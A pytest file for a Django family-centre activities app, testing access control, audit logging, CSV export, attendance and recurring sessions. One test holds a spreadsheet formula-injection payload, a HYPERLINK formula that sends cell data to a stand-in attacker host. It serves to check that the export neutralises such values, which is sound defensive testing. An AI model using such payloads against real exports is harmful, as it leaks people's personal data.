"""The organiser's pages: only the activity's partners and the coordinator see registrants."""

import csv
import io
from datetime import date, time, timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from huisvanhetkind.activities import services
from huisvanhetkind.activities.models import Activity, Registration, Session
from huisvanhetkind.activities.workflow import RegistrationStatus as S
from huisvanhetkind.audit.models import AuditEvent
from tests.activities.conftest import fill, register
from tests.conftest import logged_in

pytestmark = pytest.mark.django_db


def session_url(session, name="manage_session"):
    return reverse(f"activities:{name}", kwargs={"pk": session.pk})


def test_partner_worker_sees_the_list_and_the_read_is_audited(worker, session):
    registration, _signed = register(session, name="Fatima El Amrani", social_tariff=True)

    response = logged_in(worker).get(session_url(session))

    assert response.status_code == 200
    assert "Fatima El Amrani" in response.content.decode()
    event = AuditEvent.objects.get(action=AuditEvent.Action.READ)
    assert event.actor == worker
    assert (event.target_type, event.target_id) == ("activities.session", str(session.pk))
    assert event.changes["registrations"] == [None, [registration.pk]]


def test_coordinator_of_the_house_sees_the_list(coordinator, session):
    register(session, name="Fatima El Amrani")

    response = logged_in(coordinator).get(session_url(session))

    assert "Fatima El Amrani" in response.content.decode()


@pytest.mark.parametrize("name", ["manage_session", "session_csv", "session_register"])
def test_outsiders_never_see_a_registrant(outsider, other_coordinator, session, name):
    register(session, name="Fatima El Amrani")

    for user in (outsider, other_coordinator):
        response = logged_in(user).get(session_url(session, name))
        assert response.status_code == 404
        assert "Fatima" not in response.content.decode()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.READ).exists()


def test_anonymous_visitor_is_sent_to_log_in(client, session):
    response = client.get(session_url(session))

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_csv_export_has_the_registrations_and_is_audited(worker, session):
    register(session, name="Fatima El Amrani", phone="0470 11 22 33")

    response = logged_in(worker).get(session_url(session, "session_csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    assert rows[0][0] == "naam"
    assert rows[1][:3] == ["Fatima El Amrani", "sara@example.be", "0470 11 22 33"]
    assert AuditEvent.objects.filter(
        action=AuditEvent.Action.READ, reason="inschrijvingen van een moment geëxporteerd"
    ).exists()


def test_csv_export_writes_formulas_as_text_and_other_values_unchanged(worker, session):
    register(session, name='=HYPERLINK("https://aanvaller.example/?x="&B2;"klik")')
    register(session, name="-1+1", email="", phone="+32 470 11 22 33")
    register(session, name="Fatima El Amrani", email="fatima@example.be", remarks="@kinderwagen")

    response = logged_in(worker).get(session_url(session, "session_csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    assert rows[1][0] == """'=HYPERLINK("https://aanvaller.example/?x="&B2;"klik")"""
    assert rows[2][0] == "'-1+1" and rows[2][2] == "'+32 470 11 22 33"
    assert rows[3][:4] == ["Fatima El Amrani", "fatima@example.be", "", "1"]
    assert rows[3][-1] == "'@kinderwagen"


def test_attendance_is_marked(worker, session):
    present, absent = fill(session, 2)

    logged_in(worker).post(
        session_url(session), {"action": "attendance", "present": [str(present.pk)]}
    )

    present.refresh_from_db()
    absent.refresh_from_db()
    assert (present.attended, absent.attended) == (True, False)


def test_organiser_registers_a_family_by_phone_without_email(worker, session, on_commit):
    with on_commit():
        response = logged_in(worker).post(
            session_url(session, "session_register"),
            {
                "name": "Familie Yilmaz",
                "email": "",
                "phone": "03 123 45 67",
                "adults": "2",
                "children_ages": "0, 2",
                "consent": "on",
            },
        )

    registration = Registration.objects.get()
    assert response.status_code == 302
    assert registration.status == S.CONFIRMED
    assert registration.registered_by == worker
    assert mail.outbox == []


def test_message_and_cancellation_reach_all_registrants(worker, session, on_commit):
    fill(session, 2)
    with on_commit():
        logged_in(worker).post(
            session_url(session), {"action": "cancel", "message": "Sorry, de zaal is niet vrij."}
        )

    session.refresh_from_db()
    assert session.is_cancelled
    assert len(mail.outbox) == 2
    assert "Afgelast" in mail.outbox[0].subject
    assert "zaal is niet vrij" in mail.outbox[0].body


def test_figures_count_social_tariff_anonymously(worker, session):
    register(session, email="a@example.be", social_tariff=True)
    register(session, email="b@example.be")

    response = logged_in(worker).get(
        reverse("activities:manage_activity", kwargs={"pk": session.activity.pk})
    )

    assert "Met sociaal tarief: 50%" in response.content.decode()


def test_partner_creates_an_activity_with_weekly_sessions_except_holidays(
    worker, house, organisation
):
    client = logged_in(worker)
    response = client.post(
        reverse("activities:activity_new", kwargs={"house_slug": house.slug}),
        {
            "title": "Speelbabbel",
            "organisations": [organisation.pk],
            "audience": "families",
            "place": "Kerkstraat 1",
            "is_free": "on",
            "language": "nl",
            "registration": "required",
            "capacity": "12",
            "capacity_unit": "families",
            "status": "published",
        },
    )
    assert response.status_code == 302, response.content.decode()
    activity = Activity.objects.get()
    first = timezone.localdate() + timedelta(days=1)
    response = client.post(
        reverse("activities:manage_activity", kwargs={"pk": activity.pk}),
        {
            "frequency": "WEEKLY",
            "weekdays": ["TU"],
            "first_day": first.isoformat(),
            "until": (first + timedelta(days=27)).isoformat(),
            "starts": "09:30",
            "ends": "11:30",
            "exceptions": "",
            "close_hours_before": "12",
        },
    )

    assert response.status_code == 302
    sessions = list(activity.sessions.all())
    assert len(sessions) == 4
    assert all(timezone.localtime(s.starts_at).weekday() == 1 for s in sessions)
    assert all(timezone.localtime(s.starts_at).time() == time(9, 30) for s in sessions)
    assert sessions[0].registration_closes_at == sessions[0].starts_at - timedelta(hours=12)


def test_outsider_cannot_open_or_edit_the_activity(outsider, activity):
    client = logged_in(outsider)

    for name in ("manage_activity", "activity_edit"):
        url = reverse(f"activities:{name}", kwargs={"pk": activity.pk})
        assert client.get(url).status_code == 404
        assert client.post(url, {"title": "Gekaapt"}).status_code == 404
    activity.refresh_from_db()
    assert activity.title == "Speelbabbel"


def test_sessions_skip_school_holidays(activity, worker):
    new = services.sessions_generate(
        activity=activity,
        actor=worker,
        rule="FREQ=WEEKLY;BYDAY=TU",
        first_day=date(2030, 12, 1),
        until=date(2031, 1, 31),
        starts=time(9, 30),
        ends=time(11, 0),
        exceptions=[date(2030, 12, 24), date(2030, 12, 31)],
    )

    days = [timezone.localtime(s.starts_at).date() for s in new]
    assert date(2030, 12, 24) not in days and date(2030, 12, 31) not in days
    assert days[0] == date(2030, 12, 3)
    assert len(days) == 7
    # Generating again adds nothing twice.
    assert (
        services.sessions_generate(
            activity=activity,
            actor=worker,
            rule="FREQ=WEEKLY;BYDAY=TU",
            first_day=date(2030, 12, 1),
            until=date(2031, 1, 31),
            starts=time(9, 30),
            ends=time(11, 0),
        )
        == []
    )


def test_change_applies_to_one_session_or_to_the_series(activity, worker):
    services.sessions_generate(
        activity=activity,
        actor=worker,
        rule="FREQ=WEEKLY;BYDAY=TU",
        first_day=date(2030, 9, 1),
        until=date(2030, 9, 30),
        starts=time(9, 30),
        ends=time(11, 0),
    )
    first, second, third, fourth = Session.objects.order_by("starts_at")

    services.session_change(session=first, actor=worker, shift=timedelta(hours=1))
    services.session_change(
        session=third, actor=worker, series=True, shift=timedelta(minutes=30), capacity=8
    )

    hours = [timezone.localtime(s.starts_at).time() for s in Session.objects.order_by("id")]
    assert hours == [time(10, 30), time(9, 30), time(10, 0), time(10, 0)]
    assert list(Session.objects.order_by("id").values_list("capacity", flat=True)) == [
        None,
        None,
        8,
        8,
    ]


def test_more_capacity_promotes_the_waitlist(activity, session, worker):
    fill(session, 21)

    services.session_change(session=session, actor=worker, capacity=21)

    assert session.registrations.filter(status=S.CONFIRMED).count() == 21
